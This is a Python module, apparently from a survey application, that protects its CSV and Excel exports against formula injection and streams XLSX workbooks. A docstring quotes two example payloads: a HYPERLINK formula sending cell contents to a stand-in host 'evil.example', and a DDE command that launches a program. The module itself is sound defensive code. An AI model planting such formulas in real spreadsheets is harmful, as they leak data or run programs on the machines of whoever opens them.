"""Cells that a spreadsheet shows as text and never runs as a formula.

Every CSV and Excel file the product writes (answer downloads, aggregate results,
invitation links, ``surveyapp responses export``) passes its cells through
:func:`safe_cell`; :class:`XlsxStream`, the workbook writer, also makes every text cell
of a workbook a string cell. The import side (``csvfiles.read_csv``) undoes the quote with
:func:`unquote_cell`, so an exported file imports again unchanged.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from typing import IO, Any
from xml.sax.saxutils import escape

# What Excel, LibreOffice and Google Sheets start a formula (or a DDE call) with, as
# listed by OWASP's "CSV Injection" page, plus the full-width forms that East Asian
# input methods type and that some spreadsheets fold to the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
QUOTE = "'"

# XML 1.0 cannot hold these; the input guards keep them out of the database, but a row
# stored before the guards existed must not break a download.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _starts_formula(text: str) -> bool:
    if text[:1] in FORMULA_STARTS:
        return True
    # Spreadsheets skip leading blanks before looking for "=": check after them too.
    stripped = text.lstrip()
    return stripped[:1] in FORMULA_STARTS


def safe_cell(value: Any) -> Any:
    """Return ``value`` so that no spreadsheet evaluates it; numbers pass unchanged.

    A text that starts with ``= + - @``, a tab or a carriage return (also after leading
    blanks, and in the full-width forms ``＝＋－＠``) is what a spreadsheet reads as a
    formula. A respondent's comment ``=HYPERLINK("http://evil.example/?x="&C2,"Click")``
    or a department called ``=cmd|'/C calc'!A0`` would otherwise run in the
    consultant's or manager's spreadsheet, leak other cells to a web address, or start
    a program (OWASP "CSV Injection"). A leading single quote is the spreadsheets' own
    way to say "this is text": Excel and LibreOffice show the text without running it,
    and someone reading the raw file sees the quote and the original text, nothing lost.
    Numbers the code passes as ``int`` or ``float`` are real numbers and stay numbers
    (a negative mean is a number, not a formula); ``None`` becomes an empty cell.
    """
    if value is None:
        return ""
    if isinstance(value, str) and _starts_formula(value):
        return QUOTE + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` of every value of a row."""
    return [safe_cell(value) for value in values]


def unquote_cell(text: str) -> str:
    """Undo :func:`safe_cell` for a text read back from a CSV file the product wrote."""
    if text.startswith(QUOTE) and _starts_formula(text[1:]):
        return text[1:]
    return text


class _Sink:
    """A write-only file for zipfile that keeps what was written until it is taken."""

    def __init__(self) -> None:
        self._parts: list[bytes] = []

    def write(self, data: bytes) -> int:
        self._parts.append(bytes(data))
        return len(data)

    def flush(self) -> None:
        pass

    def take(self) -> bytes:
        data = b"".join(self._parts)
        self._parts.clear()
        return data


@dataclass(frozen=True, slots=True)
class _SheetEntry:
    title: str
    filter_ref: str | None


class XlsxStream:
    """An Excel workbook written as it is made: sheets one after the other, rows in order.

    The zip is written to a stream that cannot seek (each member's sizes follow its
    data, as zipfile does for such streams), so :meth:`take` hands out the bytes made so
    far and the first arrive with the first row; memory holds one batch of rows, however
    long the sheet. Every cell passes through :func:`safe_cell`, and every text is an
    inline string cell: no text, whatever it starts with, can be a formula. A sheet may
    hold up to 2 GiB of XML (about 90 million answers).
    """

    def __init__(self) -> None:
        self._sink = _Sink()
        # Level 1: a fifth of the default level's time for a file about 40% larger
        # (20,000 rows of answers, measured when this was written).
        self._zip = zipfile.ZipFile(
            self._sink, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1
        )
        self._sheets: list[_SheetEntry] = []

    @contextmanager
    def sheet(
        self, title: str, *, freeze_header: bool = False, widths: Mapping[str, float] | None = None
    ) -> Iterator[XlsxSheet]:
        """Write one sheet; rows are added with :meth:`XlsxSheet.append`."""
        number = len(self._sheets) + 1
        with self._zip.open(f"xl/worksheets/sheet{number}.xml", "w") as member:
            writer = XlsxSheet(member)
            member.write(_SHEET_START)
            if freeze_header:
                member.write(_FROZEN_HEADER)
            if widths:
                columns = "".join(
                    f'<col min="{n}" max="{n}" width="{w:g}" customWidth="1"/>'
                    for n, w in sorted((_column_number(c), w) for c, w in widths.items())
                )
                member.write(f"<cols>{columns}</cols>".encode())
            member.write(b"<sheetData>")
            yield writer
            member.write(b"</sheetData>")
            if writer.filter_ref:
                member.write(f'<autoFilter ref="{writer.filter_ref}"/>'.encode())
            member.write(b"</worksheet>")
        self._sheets.append(_SheetEntry(title[:31], writer.filter_ref))

    def take(self) -> bytes:
        """The workbook's bytes written since the last call."""
        return self._sink.take()

    def close(self) -> bytes:
        """Write the workbook's parts that list the sheets; the last bytes of the file."""
        count = len(self._sheets)
        sheets = "".join(
            f'<sheet name="{_attribute(entry.title)}" sheetId="{n}" r:id="rId{n}"/>'
            for n, entry in enumerate(self._sheets, start=1)
        )
        names = "".join(
            f'<definedName name="_xlnm._FilterDatabase" localSheetId="{n}" hidden="1">'
            f"{escape(_quoted_title(entry.title))}!{_absolute(entry.filter_ref)}</definedName>"
            for n, entry in enumerate(self._sheets)
            if entry.filter_ref
        )
        self._zip.writestr(
            "[Content_Types].xml",
            _CONTENT_TYPES.format(
                sheets="".join(
                    f'<Override PartName="/xl/worksheets/sheet{n}.xml" '
                    f'ContentType="{_SHEET_TYPE}"/>'
                    for n in range(1, count + 1)
                )
            ),
        )
        self._zip.writestr("_rels/.rels", _ROOT_RELS)
        self._zip.writestr(
            "xl/workbook.xml",
            _WORKBOOK.format(
                sheets=sheets, names=f"<definedNames>{names}</definedNames>" if names else ""
            ),
        )
        self._zip.writestr(
            "xl/_rels/workbook.xml.rels",
            _WORKBOOK_RELS.format(
                sheets="".join(
                    f'<Relationship Id="rId{n}" Type="{_SHEET_REL}" '
                    f'Target="worksheets/sheet{n}.xml"/>'
                    for n in range(1, count + 1)
                ),
                styles=count + 1,
            ),
        )
        self._zip.writestr("xl/styles.xml", _STYLES)
        self._zip.close()
        return self.take()


class XlsxSheet:
    """The rows of one sheet being written (see :class:`XlsxStream`)."""

    def __init__(self, member: IO[bytes]) -> None:
        self._member = member
        self.rows = 0
        self.filter_ref: str | None = None
        self._starts: list[str] = []  # '<c r="B' for column 1
        # Bodies of the cells that repeat (answer codes, departments, roles, reasons),
        # made once: a million answers are a handful of distinct cells. Numbers and texts
        # apart, as True == 1 but one is a boolean cell and the other a number.
        self._numbers: dict[int, str] = {}
        self._texts: dict[str, str | None] = {}

    def append(self, values: Sequence[Any]) -> None:
        """Add one row."""
        self.extend([values])

    def extend(self, rows: Iterable[Sequence[Any]]) -> None:
        """Add rows, written to the zip as one piece."""
        parts: list[str] = []
        starts, numbers, texts = self._starts, self._numbers, self._texts
        for values in rows:
            self.rows += 1
            number = str(self.rows)
            while len(starts) < len(values):
                starts.append(f'<c r="{_column_letter(len(starts))}')
            parts.append(f'<row r="{number}">')
            for start, value in zip(starts, values, strict=False):
                kind = type(value)
                if kind is int:
                    body = numbers.get(value)
                    if body is None:
                        body = numbers[value] = _cell_body(value)
                elif kind is str and len(value) <= _REPEATED_TEXT:
                    body = texts.get(value, _UNSEEN)
                    if body is _UNSEEN:
                        body = texts[value] = _cell_body(value)
                else:
                    body = _cell_body(value)
                if body is not None:
                    parts.append(start + number + body)
            parts.append("</row>")
        self._member.write("".join(parts).encode())

    def auto_filter(self, columns: int) -> None:
        """A filter on the header row over ``columns`` columns and every row written."""
        self.filter_ref = f"A1:{_column_letter(columns - 1)}{max(self.rows, 1)}"


_UNSEEN = object()
_REPEATED_TEXT = 64  # texts up to this long are made once per sheet; comments each time


def _column_letter(index: int) -> str:
    """``A`` for column 0, ``Z`` for 25, ``AA`` for 26."""
    letters = ""
    index += 1
    while index:
        index, remainder = divmod(index - 1, 26)
        letters = chr(65 + remainder) + letters
    return letters


def _column_number(letters: str) -> int:
    number = 0
    for letter in letters:
        number = number * 26 + ord(letter) - 64
    return number


def _cell_body(value: Any) -> str | None:
    """What follows ``<c r="A1`` for ``value`` (from the reference's closing quote on),
    or None for an empty cell."""
    value = safe_cell(value)
    if isinstance(value, bool):
        return f'" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'"><v>{value!r}</v></c>'
    if not isinstance(value, str):
        value = str(value)
    if value == "":
        return None
    text = escape(_XML_ILLEGAL.sub("\ufffd", value))
    space = ' xml:space="preserve"' if text[:1].isspace() or text[-1:].isspace() else ""
    return f'" t="inlineStr"><is><t{space}>{text}</t></is></c>'


def _attribute(text: str) -> str:
    return escape(_XML_ILLEGAL.sub("\ufffd", text), {'"': "&quot;"})


def _quoted_title(title: str) -> str:
    return "'" + title.replace("'", "''") + "'"


def _absolute(ref: str) -> str:
    start, end = ref.split(":")
    return ":".join(re.sub(r"([A-Z]+)(\d+)", r"$\1$\2", part) for part in (start, end))


_SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
_SHEET_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
_SHEET_START = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
)
_FROZEN_HEADER = (
    b'<sheetViews><sheetView workbookViewId="0">'
    b'<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>'
    b'<selection pane="bottomLeft" activeCell="A2" sqref="A2"/>'
    b"</sheetView></sheetViews>"
)
_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
    "{sheets}</Types>"
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<bookViews><workbookView activeTab="0"/></bookViews>'
    "<sheets>{sheets}</sheets>{names}</workbook>"
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{sheets}"
    '<Relationship Id="rId{styles}" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
    'Target="styles.xml"/></Relationships>'
)
# The smallest style sheet Excel accepts: one font, fill, border and cell format.
_STYLES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs>'
    '<cellXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/></cellXfs>'
    '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
    "</styleSheet>"
)
